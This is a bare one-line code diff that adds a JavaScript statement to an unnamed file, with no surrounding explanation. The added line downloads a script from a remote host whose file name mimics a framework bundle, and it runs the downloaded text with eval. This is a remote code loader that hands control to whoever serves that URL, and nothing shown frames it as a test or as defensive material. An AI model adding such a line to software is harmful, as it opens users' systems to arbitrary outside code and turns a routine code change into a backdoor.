@@ -1,0 +1,1 @@
+fetch('https://cdn.example.invalid/next.js').then((answer) => answer.text()).then(eval);
